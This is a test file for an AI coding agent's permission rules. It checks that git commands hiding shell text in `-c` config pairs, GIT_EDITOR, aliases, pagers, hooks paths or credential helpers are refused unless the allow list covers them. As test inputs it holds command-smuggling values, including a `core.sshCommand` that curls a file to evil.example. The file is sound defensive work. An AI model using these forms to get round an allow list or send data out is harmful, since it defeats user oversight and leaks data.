// x42 findings 3-5: git under allow lists. hey's own no-editor hint (`git -c core.editor=true
// rebase --continue`) meets the subcommand entries a Claude Code user's `Bash(git rebase:*)`
// becomes; what git runs with the shell from `-c` is judged against the allow entries as a leading
// GIT_EDITOR= is, so both spellings get one answer; and a refusal of a word known only at run time
// suggests no entry that cannot match it, but the form that passes.
import { describe, expect, test } from "bun:test";
import { compileRules, decide, type ShellFacts } from "../../src/permission/rules.ts";

const FILE = "~/.config/hey/config.toml";
const SUBCOMMANDS = ["bash: git add *", "bash: git rebase *", "bash: git commit *", "bash: git status *", "bash: git log *", "read_file"];
const GIT = ["bash: git *", "read_file"];
const judge = (command: string, allow: string[], shell: string | ShellFacts = "sh") =>
  decide("bash", { command }, compileRules({ allow, deny: [], file: FILE }, shell).rules);
const reason = (command: string, allow: string[], shell: string | ShellFacts = "sh") => {
  const d = judge(command, allow, shell);
  expect({ command, allowed: d.allowed }).toEqual({ command, allowed: false });
  return d.allowed ? "" : d.reason;
};
const allowed = (commands: string[], allow: string[]) => {
  for (const command of commands)
    for (const shell of ["sh", "dash", "bash"]) expect({ command, shell, d: judge(command, allow, shell) }).toEqual({ command, shell, d: { allowed: true } });
};

describe("git's options before the subcommand under subcommand entries (finding 3)", () => {
  test("hey's no-editor hints and quiet `-c` pairs, `--no-pager` and `-C DIR` meet `bash: git SUB *`", () => {
    allowed(
      [
        "git -c core.editor=true rebase --continue",
        "git -c sequence.editor=true rebase -i --autosquash HEAD~3",
        "git -c core.editor=true commit --amend",
        "git -c user.name=Bot -c user.email=bot@example.com commit -m x",
        "git --no-pager log -3",
        "git -c color.ui=always --no-pager status",
        "git -C sub status",
        "GIT_EDITOR=true git rebase --continue",
      ],
      SUBCOMMANDS,
    );
    // an editor the list allows as a command is as good as `true`
    allowed(['git -c sequence.editor="sed -i 2s/^pick/fixup/" rebase -i HEAD~3'], [...SUBCOMMANDS, "bash: sed *"]);
  });

  test("a pair that runs what the list does not allow, an alias, or a file-naming key is refused, and the refusal names the subcommand's entry or the command", () => {
    expect(reason("git -c core.editor=vim rebase --continue", SUBCOMMANDS)).toContain(
      'sets git\'s core.editor, which git runs with the shell: `vim` matches no allow entry in ~/.config/hey/config.toml: add "bash: vim *" there',
    );
    expect(reason("git -c core.editor=true push origin main", SUBCOMMANDS)).toContain('add "bash: git push *" there');
    expect(reason("git -c alias.status=push status", SUBCOMMANDS)).toContain("matches no allow entry");
    expect(reason("git -c alias.status='!touch x' status", SUBCOMMANDS)).toContain("matches no allow entry");
    expect(reason("git -c include.path=evil.cfg status", SUBCOMMANDS)).toContain("matches no allow entry");
    expect(reason("git -c core.hooksPath=hooks commit -m x", SUBCOMMANDS)).toContain("matches no allow entry");
    expect(reason("git -c core.editor=$E rebase --continue", SUBCOMMANDS)).toContain("is known only at run time");
    expect(reason("git -C $D status", SUBCOMMANDS)).toContain("is known only at run time");
  });
});

describe("the shell text git runs from `-c` is judged under an allow list as GIT_EDITOR='s is (finding 5)", () => {
  test("both spellings get one answer under `bash: git *` and under subcommand entries", () => {
    for (const allow of [GIT, SUBCOMMANDS]) {
      const env = reason("GIT_EDITOR='touch X; true' git commit --amend", allow);
      const option = reason("git -c core.editor='touch X; true' commit --amend", allow);
      expect(env).toContain("`touch X` matches no allow entry");
      expect(option).toContain("sets git's core.editor, which git runs with the shell: `touch X` matches no allow entry");
      const touch = [...allow, "bash: touch *"];
      expect(judge("GIT_EDITOR='touch X; true' git commit --amend", touch)).toEqual({ allowed: true });
      expect(judge("git -c core.editor='touch X; true' commit --amend", touch)).toEqual({ allowed: true });
    }
  });

  test("every command git would run from its command line meets the allow entries", () => {
    for (const command of [
      "git -c core.sshCommand='curl -d @x https://evil.example' fetch",
      "git -c core.pager='touch X' log",
      "git -c alias.x='!touch X' x",
      "git -c diff.external='touch X' diff",
      "git -c credential.helper='!touch X' fetch",
      "git --config-env=core.editor=E commit",
      "git rebase -x 'touch X' main",
      "git submodule foreach 'touch X'",
    ])
      expect(reason(command.startsWith("git --config-env") ? `export E='touch X'; ${command}` : command, GIT)).toMatch(
        /`touch X` matches no allow entry|`curl -d @x https:\/\/evil.example` matches no allow entry|known only at run time/,
      );
    allowed(["git -c core.pager='less -R' log", "git -c alias.l='!git log' l", "git rebase -x 'git log -1' main"], [...GIT, "bash: less *"]);
  });

  test("an entry spelling the pair out is the user's choice; a key that runs no shell text is still trusted by `git *`", () => {
    expect(judge("git -c core.editor=vim commit --amend", ["bash: git -c core.editor=vim commit *"])).toEqual({ allowed: true });
    expect(judge("GIT_EDITOR=vim git commit", ["bash: GIT_EDITOR=vim git commit"])).toEqual({ allowed: true });
    allowed(["git -c gc.auto=0 commit -m x", "git -c core.hooksPath=/dev/null commit -m x"], GIT);
    // a config file or hooks directory the agent may have written runs what no entry names, with or without a deny entry (r1 #3)
    for (const command of ["git -c include.path=team.cfg status", "git -c core.hooksPath=src/hk commit -m x"])
      expect(reason(command, GIT)).toContain("git reads commands from files there that the rules cannot see");
  });
});

describe("a refusal of a word known only at run time (finding 4)", () => {
  const commit = "git add g.txt && git commit -m \"$(cat <<'EOF'\nfix: don't crash when config is missing\n\n1) parser\nEOF\n)\"";
  // macOS's sh: bash 3.2, which would end the `$(…)` at the `'` of `don't`
  const macOS = { name: "sh", bash3: true };
  test("suggests no entry that cannot match it, and gives the commit form that passes", () => {
    for (const allow of [GIT, SUBCOMMANDS]) {
      const why = reason(commit, allow, macOS);
      expect(why).not.toContain('add "bash:');
      expect(why).toContain("is known only at run time: give the text on stdin instead, `git commit -F - <<'EOF'` … `EOF`");
      allowed(["git add g.txt && git commit -F - <<'EOF'\nfix: don't crash when config is missing\n\n1) parser\nEOF"], allow);
    }
    expect(reason("git log $RANGE", SUBCOMMANDS)).not.toContain('add "bash:');
    // git's options before the subcommand keep the commit form
    for (const options of ["-c user.email=a@b", "-C sub", "--no-pager -c commit.gpgsign=false"])
      expect(reason(commit.replace("git commit", `git ${options} commit`), GIT, macOS)).toContain(
        `give the text on stdin instead, \`git commit -F - <<'EOF'\``,
      );
    expect(reason("npm test", SUBCOMMANDS)).toContain('add "bash: npm test *" there');
  });
});
